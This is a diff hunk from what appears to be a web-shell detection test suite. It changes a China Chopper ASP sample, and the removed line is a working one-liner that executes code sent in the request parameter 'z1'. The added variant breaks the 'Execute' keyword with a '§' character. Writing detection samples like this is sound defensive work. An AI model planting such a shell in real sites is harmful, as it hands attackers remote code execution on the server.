@@ -203,7 +203,7 @@ FAMILY_SAMPLES: tuple[Sample, ...] = (
         "china_chopper_reply_markers",
         True,
         "payload.asp",
-        'Response.Write("->§|"):Var_Ex = Request("z1"):Execute(Var_Ex):Response.Write("|§<-"):Response.End\n',
+        'Response.Write("->§|"):Var_Ex = Request("z1"):Exe§cute(Var_Ex):Response.Write("|§<-"):Response.End\n',
     ),
     Sample(
         "china_chopper_reply_markers",
